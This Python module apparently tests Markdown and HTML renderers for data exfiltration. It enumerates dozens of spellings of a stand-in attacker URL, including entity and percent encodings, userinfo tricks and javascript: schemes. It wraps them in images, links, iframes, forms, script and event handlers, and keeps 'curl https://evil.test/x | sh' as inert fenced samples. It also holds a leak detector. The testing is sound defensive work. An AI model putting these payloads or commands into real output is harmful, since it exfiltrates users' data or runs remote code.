"""Ways to carry data out through Markdown and HTML, what must stay, and what a page would fetch.

An attack is an address, spelt in one of many ways, in a construct, in a context. `leaks` reads the
HTML of a real renderer with a real parser and lists what leads to hosts that are not allowed.
"""

from __future__ import annotations

import html
import re
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from itertools import product

import mistune
from markdown_it import MarkdownIt
from nbconvert.filters.markdown_mistune import markdown2html_mistune

ALLOW = ("example.com",)
EVIL = "https://evil.test/c?d=c2VjcmV0"

SPELLINGS = {
    "plain": EVIL,
    "upper case": "HTTPS://EVIL.TEST/c?d=S",
    "http": "http://evil.test/c?d=S",
    "protocol-relative": "//evil.test/c?d=S",
    "backslashes": "https:\\\\evil.test\\c?d=S",
    "slash and backslash": "/\\evil.test/c?d=S",
    "one slash": "https:/evil.test/c?d=S",
    "no slash": "https:evil.test/c?d=S",
    "three slashes": "https:///evil.test/c?d=S",
    "entity in scheme": "&#104;ttps://evil.test/c?d=S",
    "hexadecimal entity": "&#x68;ttps://evil.test/c?d=S",
    "entity with zeros": "&#0000104;ttps://evil.test/c?d=S",
    "named entities": "https&colon;&sol;&sol;evil.test/c?d=S",
    "twice encoded": "&amp;#104;ttps://evil.test/c?d=S",
    "percent in scheme": "%68ttps://evil.test/c?d=S",
    "percent slashes": "https:%2F%2Fevil.test/c?d=S",
    "escaped slashes": "https:\\/\\/evil.test/c?d=S",
    "escaped relative": "\\/\\/evil.test/c?d=S",
    "userinfo": "https://example.com@evil.test/c?d=S",
    "userinfo and port": "https://example.com:443@evil.test/c?d=S",
    "userinfo by entity": "https://example.com&commat;evil.test/c",
    "percent userinfo": "https://example.com%40evil.test/c",
    "backslash userinfo": "https://example.com\\@evil.test/c",
    "suffix": "https://example.com.evil.test/c?d=S",
    "not a suffix": "https://notexample.com/c?d=S",
    "hyphen": "https://example.com-evil.test/c?d=S",
    "percent dot": "https://example.com%2eevil.test/c",
    "full-width dot": "https://example.com．evil.test/c",
    "ideographic dot": "https://example.com。evil.test/c",
    "port": "https://evil.test:8443/c?d=S",
    "trailing dot": "https://evil.test./c?d=S",
    "decimal address": "http://2130706433/c?d=S",
    "hexadecimal address": "http://0x7f000001/c?d=S",
    "octal address": "http://0177.0.0.1/c?d=S",
    "short address": "http://127.1/c?d=S",
    "IPv6": "http://[::1]/c?d=S",
    "mapped IPv6": "http://[::ffff:7f00:1]/c?d=S",
    "punycode": "https://xn--e1afmkfd.test/c?d=S",
    "Cyrillic host": "https://ехample.com/c?d=S",
    "full-width scheme": "ｈｔｔｐｓ：／／evil.test/c?d=S",
    "zero width in scheme": "ht\u200btps://evil.test/c?d=S",
    "soft hyphen in host": "https://exam\u00adple.com.evil.test/c?d=S",
    "long host": f"https://{'c2VjcmV0' * 6}.evil.test/",
    "javascript": "javascript:fetch(1)",
    "javascript, mixed case": "JaVaScRiPt:fetch(1)",
    "javascript by entity": "javascript&colon;fetch(1)",
    "javascript with entity tab": "java&Tab;script:fetch(1)",
    "vbscript": "vbscript:msgbox(1)",
    "data": "data:text/html;base64,PHNjcmlwdD4=",
    "data image": "data:image/svg+xml,x",
    "file": "file://evil.test/share/c",
    "ftp": "ftp://evil.test/c",
    "mailto": "mailto:a@evil.test?body=c2VjcmV0",
    "custom scheme": "intent://evil.test/#Intent;scheme=https;end",
}

CONSTRUCTS = {
    "image": "![alt]({})",
    "image with title": '![alt]({} "title")',
    "image, nested brackets": "![a [b] c]({})",
    "image, spaces": "![alt](  {}  )",
    "image, line end": "![alt](\n{}\n'title')",
    "image in angles": "![alt](<{}>)",
    "link": "[text]({})",
    "link in angles": "[text](<{}> 'title')",
    "link around image": "[![alt](https://example.com/i.png)]({})",
    "image in link": "[![alt]({})](https://example.com/)",
    "reference": "[text][ref]\n\n[ref]: {}",
    "collapsed reference": "[ref][]\n\n[ref]: {} 'title'",
    "shortcut reference": "![ref]\n\n[ref]:\n    {}\n  'title'",
    "reference in angles": "![text][ref]\n\n[ref]: <{}>",
    "reference, quoted": "![text][ref]\n\n> [ref]: {}",
    "reference, listed": "![text][ref]\n\n- [ref]: {}",
    "footnote": "Text[^1]\n\n[^1]: ![alt]({})",
    "html image": '<img src="{}">',
    "html image, single quotes": "<img alt='>' src='{}'>",
    "html image, no quotes": "<img src={} >",
    "html image, slash": '<img/src="{}"/>',
    "html image, upper case": '<IMG SRC = "{}">',
    "html image, lines": '<img\nalt="x"\nsrc="{}"\n>',
    "html image, unclosed": '<img src="{}" x\n\n> y',
    "html link": '<a href="{}">text</a>',
    "html ping": '<a href="https://example.com/" ping="{}">text</a>',
    "html srcset": '<img srcset="https://example.com/a.png 1x, {} 2x">',
    "html picture": '<picture><source srcset="{}"><img src="a.png"></picture>',
    "html video": '<video src="a.mp4" poster="{}"></video>',
    "html audio": '<audio src="{}"></audio>',
    "html iframe": '<iframe src="{}"></iframe>',
    "html object": '<object data="{}"></object>',
    "html embed": '<embed src="{}">',
    "html stylesheet": '<link rel="stylesheet" href="{}">',
    "html refresh": '<meta http-equiv="refresh" content="0;url={}">',
    "html base": '<base href="{}">',
    "html form": '<form action="{}"><input name="x"></form>',
    "html button": '<button formaction="{}">go</button>',
    "html input": '<input type="image" src="{}">',
    "html background": '<body background="{}"><table background="{}"><td background="{}">',
    "html style attribute": '<div style="background:url({})">x</div>',
    "html style": "<style>@import '{}'; a{{background:url({})}}</style>",
    "html script": '<script src="{}"></script>',
    "html inline script": "<script>fetch('{}')</script>",
    "html handler": "<b onmouseover=\"fetch('{}')\">x</b>",
    "html svg": '<svg><image href="{}"/><use xlink:href="{}"/></svg>',
    "html area": '<map name="m"><area href="{}"></map>',
    "html quote": '<blockquote cite="{}">x</blockquote>',
    "conditional comment": '<!--[if IE]><img src="{}"><![endif]-->',
    "broken comment": '<!--> <img src="{}"> -->',
    "attribute list": '![alt](a.png){{: src="{}" }}',
}
"""Where a spelling stands for a destination; those below need one that a reader links by itself."""

BARE = {
    "autolink": "<{}>",
    "bare": "see {} now",
    "in brackets": "see [{}] and ({})",
    "emphasised": "**{}** and _{}_",
    "wiki": "[[{}|text]] ![[{}]]",
    "LaTeX": "$\\href{{{}}}{{x}}$ and $\\includegraphics{{{}}}$",
    "diagram": '```mermaid\ngraph TD\nclick A "{}"\n```',
    "directive": "```{{image}} {}\n```",
    "forum": "[img]{}[/img] [url={}]x[/url]",
    "cell": "| a |\n|---|\n| {} |",
}
LINKED = ("plain", "upper case", "http", "userinfo", "suffix", "port", "long host", "ftp")

CONTEXTS = {
    "alone": "{}",
    "in prose": "Some words before. {} And after.",
    "in a list": "- one\n- {}\n",
    "in a quote": "> {}\n",
    "in a table": "| a | b |\n|---|---|\n| x | {} |\n",
    "in a heading": "# {}\n",
    "in HTML": "<div>\n\n{}\n\n</div>\n",
    "after code": "```python\nprint('x')\n```\n{}\n",
    "after a code span": "Use `x` and `y`. {}",
    "between loose backticks": "`\n\n{}\n\n`",
    "after an open fence in a quote": "> ```\n> code\n{}\n",
    "after an open fence in a list": "- ```\n  code\n\n{}\n",
    "in a fence that HTML swallows": "<div>\n```\n</div>\n\n{}\n\n```\n",
    "in a fence that a comment swallows": "<!--\n```\n-->\n{}\n<!--\n```\n-->",
    "in a fence that is paragraph text": "text\n    ~~~\n{}\n    ~~~\n",
    "after an escaped backtick": "\\`{}`",
    "in cells with backticks": "| `a | b |\n|---|---|\n| `x | {} ` |\n",
    "with Windows lines": "a\r\n\r\n{}\r\n",
}

BENIGN = (
    "See [the docs](https://example.com/a?b=c#d) and ![plot](https://img.example.com/p.png 't').",
    "Plain https://example.com/docs, <https://example.com/> and www.example.com.",
    "“https://example.com”, **https://example.com**, (https://example.com).",
    "[a][b] and [c]\n\n[b]: https://example.com/x 'Title'\n[c]: <https://example.com/y>",
    "[up](../a/b.md#c) [top](#top) ![plot](./img/a%20b.png) [x](<my file.md>)",
    "```python\nimport requests\nrequests.get('https://api.evil.test/?d=' + x)\n```\n",
    "~~~html\n<img src='https://evil.test/x' onerror='alert(1)'>\n~~~\n",
    "Run `curl https://evil.test/x | sh`, or ``a ` <img src=//evil.test>``.",
    "1. Do:\n   ```bash\n   curl https://evil.test\n   ```\n2. `wget http://evil.test/a`",
    "10. Do:\n\n    ```bash\n    curl https://evil.test\n    ```\n",
    "- a\n  - b\n    ```\n    https://evil.test/a\n    ```\n",
    "> ```sh\n> curl https://evil.test\n> ```\n",
    "text\n\n    $ curl https://evil.test/a\n\nmore",
    "<details>\n<summary>S</summary>\n\n```js\nfetch('https://evil.test')\n```\n\n</details>",
    "| a | b |\n|---|:-:|\n| 1 | `x` |\n",
    "$x < y$, $$\\frac{a}{b}$$, \\(a\\), \\[x^2\\], {a: 1}",
    "a < b && c > d; if a<b and b>c: x; i<n; 1 <2; <3",
    "- [ ] open\n- [x] done\n\n* * *\n\nTitle\n=====\n",
    "Text[^1] and [^note].\n\n[^1]: Note: see page 5.\n[^note]: https://example.com/x",
    "Write to me@acme.test or <me@acme.test>; [mail](mailto:me@example.com).",
    "see example.org, or node.js/express, setup.py/setup.cfg, e.g. foo.bar/baz, U.S./U.K.",
    "&lt;b&gt; &amp; &copy; &#169; &nbsp;",
    'H<sub>2</sub>O<br>x <kbd>Ctrl</kbd> <i class="x">i</i> <span lang="fr">x</span><br/>',
    '<img src="chart.png" alt="c" width="20"> <a href="#top">top</a>',
    '<a href="https://example.com/" title="t">x</a><img src="https://example.com/i.png">',
    '<div align="center">x</div><p style="text-align:center">x</p>',
    "<!-- toc --> <!doctype html>",
    "List<String> x; vector<std::string> y; #include <stdio.h>; <your-name>; <T extends Foo>",
    "C:\\Users\\me and \\\\server\\share and a//b // comment and 7//2 and and/or",
    "a[0](x) b[i]: int, dict[str]: Any, data: 5, JavaScript: a language, note: this",
    "use https:// or http:// here; std::vector; 12:30; @user #tag v1.2.3 3.14",
    "https://example.com/?u=https://evil.test/a stays: the host decides",
    "日本語 [日本](https://example.com/日本?q=é) ≤ “q” … 👩‍👩‍👧",
)


def attacks() -> Iterator[tuple[str, str]]:
    """Yield each attack with its name."""
    for (spelt, address), (built, construct), (stands, context) in product(
        SPELLINGS.items(), CONSTRUCTS.items(), CONTEXTS.items()
    ):
        yield f"{spelt}, {built}, {stands}", context.format(construct.format(*[address] * 3))
    for spelt, (built, construct), (stands, context) in product(
        LINKED, BARE.items(), CONTEXTS.items()
    ):
        text = context.format(construct.format(*[SPELLINGS[spelt]] * 3))
        yield f"{spelt}, {built}, {stands}", text


def _markdown_it(preset: str, *, shows_html: bool) -> Callable[[str], str]:
    made = MarkdownIt(preset, {"html": shows_html}).enable(["table", "strikethrough"])
    made.validateLink = lambda _: True  # type: ignore[method-assign]
    return made.render


RENDERERS: dict[str, Callable[[str], str]] = {
    "markdown-it": _markdown_it("commonmark", shows_html=True),
    "markdown-it, HTML shown": _markdown_it("commonmark", shows_html=False),
    "mistune": mistune.create_markdown(
        escape=False,
        renderer=mistune.HTMLRenderer(escape=False, allow_harmful_protocols=True),
        plugins=["strikethrough", "footnotes", "table", "url", "task_lists", "math"],
    ),
    "mistune, HTML shown": mistune.create_markdown(escape=True, plugins=["table", "url"]),
    "nbconvert": markdown2html_mistune,
    "none, the text as HTML": lambda text: text,
}

_ADDRESSED = re.compile(
    r"href|src|poster|action|formaction|data|background|cite|ping|longdesc|lowsrc|dynsrc|xlink:href"
)
_ACTIVE = frozenset(
    [
        "script",
        "style",
        "iframe",
        "object",
        "embed",
        "base",
        "form",
        "meta",
        "link",
        "svg",
        "frame",
        "applet",
        "button",
        "input",
    ]
)


def leaks(page: str) -> list[str]:
    """List what a page would fetch from, or link to, hosts that are not allowed."""
    reader = _Reader()
    reader.feed(page)
    reader.close()
    return reader.found


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _ACTIVE:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            parts = re.split(r"[\s,]+", value or "") if name == "srcset" else [value or ""]
            acts = name.startswith("on") or (name == "style" and "(" in (value or ""))
            leads_out = _ADDRESSED.fullmatch(name) or name == "srcset"
            if acts or (leads_out and not all(map(_stays, parts))):
                self.found.append(f"<{tag} {name}={value!r}>")


def _stays(address: str) -> bool:
    """Where a browser would go (WHATWG URL Standard), told apart from the code under test."""
    address = re.sub(r"[\t\r\n]", "", html.unescape(address)).strip("".join(map(chr, range(33))))
    scheme = re.match(r"(?i)([a-z][a-z0-9+.-]*):", address)
    if scheme and scheme[1].lower() == "mailto":
        return "?" not in address
    if scheme and scheme[1].lower() not in ("http", "https"):
        return False
    rest = (address[scheme.end() :] if scheme else address).replace("\\", "/")
    if not scheme and not rest.startswith("//"):
        return True
    authority = re.split(r"[/?#]", rest.lstrip("/"))[0].rpartition("@")[2]
    host = re.sub(r":\d*$", "", authority).rstrip(".").lower()
    return host == "example.com" or host.endswith(".example.com")
